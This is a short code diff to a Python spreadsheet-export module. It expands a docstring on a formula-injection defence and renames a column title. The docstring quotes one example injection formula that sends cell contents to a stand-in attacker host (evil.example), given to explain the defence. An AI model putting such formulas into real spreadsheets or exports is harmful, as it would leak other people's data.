@@ -157,7 +157,9 @@ def spreadsheet_cell(value: str) -> str:
     formula. An answer such as `=HYPERLINK("http://evil.example/?"&A1, "click")` would
     then run in the coordination team's spreadsheet and could leak other cells or
     start programs. A leading apostrophe makes the cell plain text; the value is
-    otherwise unchanged (the JSON export carries the exact value).
+    otherwise unchanged (the JSON export carries the exact value). The rule is kept
+    simple and predictable on purpose, so a phone number "+49 40 …" or a text
+    starting with "-" gets the apostrophe too.
 
     Args:
         value: The cell text.
@@ -191,7 +193,7 @@ def column_titles(survey: Survey, tr: Translator) -> list[str]:
         One title per column of `column_ids`.
     """
     _ = tr.t
-    leading = [_("City"), _("Country"), _("Status"), _("Submitted at (UTC)"), _("Answer languages")]
+    leading = [_("Name of city"), _("Country"), _("Status"), _("Submitted at (UTC)"), _("Answer languages")]
     trailing = [_("Supporting files"), _("Number of files")]
     return [*leading, *(tr.gettext(q.text) for q in _question_columns(survey)), *trailing]
 
